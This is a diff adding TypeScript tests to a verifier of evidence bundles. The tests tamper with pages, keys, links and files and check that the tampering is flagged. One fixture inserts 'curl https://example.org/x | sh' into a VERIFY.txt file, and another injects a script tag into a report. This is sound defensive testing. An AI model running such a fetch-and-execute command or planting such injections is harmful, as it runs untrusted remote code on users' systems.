@@ -99,6 +99,101 @@ const acts = (change: (acts: any[]) => any[] | undefined) => (it: Payload) => it
 // biome-ignore-end lint/suspicious/noExplicitAny: as above.
 const without = (name: string) => acts((all) => all.filter(({ act }) => act !== name));
 
+describe("pages: what people read is what the extract gives, byte for byte", () => {
+  const page = (name: string, change: (text: string) => string) => (it: Payload) => it.page(name, change);
+  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
+    [
+      "a number in the report",
+      page("data/index.html", (text) =>
+        text.replace("<b>1</b> developers with 1 apps", "<b>9</b> developers with 9 apps"),
+      ),
+      /data\/index\.html line \d+ is not what the extract gives/u,
+    ],
+    [
+      "a script in the report",
+      page("data/index.html", (text) => text.replace("</h1>", "</h1><script>document.title = 1</script>")),
+      /data\/index\.html line \d+ is not/u,
+    ],
+    [
+      "a command in VERIFY.txt",
+      page("VERIFY.txt", (text) =>
+        text.replace("$ sha256sum -c manifest", "$ curl https://example.org/x | sh; sha256sum -c manifest"),
+      ),
+      /^VERIFY\.txt line \d+ is not/u,
+    ],
+    [
+      "another key in VERIFY.txt",
+      page("VERIFY.txt", (text) => text.replace(examiner.publicKey.fingerprint, `SHA256:${"A".repeat(43)}`)),
+      /^VERIFY\.txt line \d+ is not/u,
+    ],
+    [
+      "where OPEN.html leads",
+      page("OPEN.html", (text) => text.replace('href="data/index.html"', 'href="https://example.org/"')),
+      /^OPEN\.html line \d+ is not/u,
+    ],
+    [
+      "a line more in bag-info.txt",
+      page("bag-info.txt", (text) => `${text}Source-Organization: The Court\n`),
+      /^bag-info\.txt line \d+ is not/u,
+    ],
+    ["the report taken away", (it) => it.remove("index.html"), /data\/index\.html is not there/u],
+    [
+      "a script beside the report",
+      (it) => it.add("viewer/app.js", "document.title = 1;\n"),
+      /files that this version makes of no extract: data\/viewer\/app\.js/u,
+    ],
+    [
+      "a report nobody made",
+      (it) => it.add("report.pdf", "%PDF-1.7\n"),
+      /files that this version makes of no extract: data\/report\.pdf/u,
+    ],
+    [
+      "a declaration nobody drew up",
+      (it) => it.add("legal/declaration.txt", "I declare\n"),
+      /files that this version makes of no extract: data\/legal\/declaration\.txt/u,
+    ],
+  ])("%s", async (name, change, says) => expectNamed([name, change, "pages", says]));
+
+  test("of another version nothing is said: it makes other pages", async () => {
+    const folder = await forged(root, (it) => {
+      it.acts((all) => {
+        all.at(-1).detail.software = "Exhibit 9.9.9";
+      });
+      it.json("extract/bundle.json", (about) => {
+        about.software = "Exhibit 9.9.9";
+      });
+    });
+    const { checks } = await checksOf(folder);
+    expect(checks.find(({ check }) => check === "pages")).toMatchObject({
+      ok: null,
+      code: "pages-of-another-version",
+      detail: expect.stringMatching(/^the pages are made by Exhibit 9\.9\.9; Exhibit \S+ makes others/u),
+    });
+  });
+});
+
+describe("structure: the payload is a closed list", () => {
+  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
+    ["a file more in data", (it) => it.add("notes.txt", "x"), /layout of a bundle does not name: data\/notes\.txt/u],
+    [
+      "a file more in the extract",
+      (it) => it.add("extract/people.json", "[]"),
+      /does not name: data\/extract\/people\.json/u,
+    ],
+    [
+      "a file more among the lines",
+      (it) => it.add("extract/lines/all.txt", "x"),
+      /does not name: data\/extract\/lines\/all\.txt/u,
+    ],
+    [
+      "an original nobody named",
+      (it) => it.add("originals/9-x.csv", "x"),
+      /bundle\.json does not name: data\/originals\/9-x\.csv/u,
+    ],
+    ["a letter nobody named", (it) => it.add("attachments/letter.pdf", "x"), /attachments whose digest no entry/u],
+  ])("%s", async (name, change, says) => expectNamed([name, change, "structure", says]));
+});
+
 describe("custody: what acts did is as they say, and nothing is without its act", () => {
   test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
     [
@@ -277,8 +372,7 @@ describe("custody: what acts did is as they say, and nothing is without its act"
         }),
       ),
     );
-    // The report names the head of the chain.
-    expect(checks.filter(({ ok }) => ok === false).map(({ check }) => check)).toEqual(["recompute"]);
+    expect(checks.filter(({ ok }) => ok === false)).toEqual([]);
     expect(checks.find(({ check }) => check === "custody")).toMatchObject({
       ok: true,
       how: "on-trust",
